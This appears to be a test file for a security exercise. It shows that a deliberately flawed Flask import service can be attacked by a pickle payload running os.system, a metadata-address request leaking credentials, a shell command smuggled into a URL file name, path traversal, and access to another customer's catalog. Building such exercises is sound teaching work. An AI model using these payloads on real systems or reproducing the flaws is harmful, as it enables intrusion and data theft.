"""The import service in Flask: code by pickle and by a file name, a request inside the network whose answer comes back, two
paths that leave their folder, another customer's catalog."""
import logging
import os
import pathlib
import pickle
import tempfile
from unittest import mock

from bank import check, handout

place = pathlib.Path(tempfile.mkdtemp())
(place / "exports").mkdir()
(place / "tmp").mkdir()
os.chdir(place)
logging.disable(logging.CRITICAL)
scope = {"__name__": "service"}
exec(handout("sec-spot-flaws-import-service", "python").replace("/tmp/", f"{place}/tmp/").replace("/srv/exports", str(place / "exports")), scope)
client = scope["app"].test_client()


def post(body, url="http://shop.example/catalog", customer="a"):
    with mock.patch("requests.get", return_value=mock.Mock(content=body)) as get:
        reply = client.post("/import", json={"customer": customer, "url": url})
    check(get.call_args.args == (url,) and "timeout" not in get.call_args.kwargs, f"({url} is fetched as it is, without a timeout)")
    return reply


class Shell:
    def __reduce__(self):
        return os.system, (f"touch {place}/by-pickle",)


post(pickle.dumps(Shell()))
check((place / "by-pickle").exists(), "a pickle runs a shell")
reply = post(b'{"AccessKeyId": "AKIA"}', "http://169.254.169.254/latest/meta-data/")
check(reply.status_code == 500 and "AKIA" in reply.json["body"], "the answer of an internal address comes back with the error")
post(b"", "http://evil.example/x;touch${IFS}by-name;.zip")
check((place / "by-name").exists(), "a file name runs a shell")

(place / "secret").write_text("root")
check(client.get("/exports/../secret").data == b"root", "../ leaves the folder of the exports")
post(pickle.dumps(["mine"]), customer="b")
check((place / "exports/b.pkl").exists() and client.get("/exports/b.pkl").status_code == 200, "anybody writes and reads any customer's catalog")
post(pickle.dumps([]), customer="../outside")
check((place / "outside.pkl").exists(), "the customer's name leaves the folder, too")

safe = handout("sec-spot-flaws-import-service", "python").replace("send_file(os.path.join(DATA, name))", "send_from_directory(DATA, name)").replace("send_file", "send_from_directory", 1)
fixed = {"__name__": "service"}
exec(safe.replace("/srv/exports", str(place / "exports")), fixed)
check(fixed["app"].test_client().get("/exports/../secret").status_code == 404, "send_from_directory does not")
